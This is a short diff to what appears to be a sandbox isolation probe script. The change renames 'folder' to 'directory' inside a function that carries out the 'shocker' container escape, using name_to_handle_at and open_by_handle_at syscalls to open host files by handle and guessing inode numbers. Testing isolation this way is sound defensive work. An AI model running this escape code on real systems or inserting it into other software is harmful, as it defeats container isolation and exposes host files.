@@ -4,13 +4,13 @@
 # on the host: succeeds
 
 def shocker():
-    """Takes the handle of a folder and asks for it back, which climbs anywhere."""
+    """Takes the handle of a directory and asks for it back, which climbs anywhere."""
     handle = bytearray(struct.pack("Ii", 128, 0) + bytes(128))
     buffer = (ctypes.c_char * len(handle)).from_buffer(handle)
     mount = ctypes.c_int()
     syscall("name_to_handle_at", -100, b"{{dir}}" if os.path.exists("{{dir}}") else b"/workspace", ctypes.addressof(buffer), ctypes.addressof(mount), 0)
-    folder = os.open("{{dir}}" if os.path.exists("{{dir}}") else "/workspace", os.O_RDONLY)
-    opened = syscall("open_by_handle_at", folder, ctypes.addressof(buffer), os.O_RDONLY)
+    directory = os.open("{{dir}}" if os.path.exists("{{dir}}") else "/workspace", os.O_RDONLY)
+    opened = syscall("open_by_handle_at", directory, ctypes.addressof(buffer), os.O_RDONLY)
     return f"opened as descriptor {opened}"
 attempt("open by handle", shocker)
 for inode in (1, 2, 64, 128):
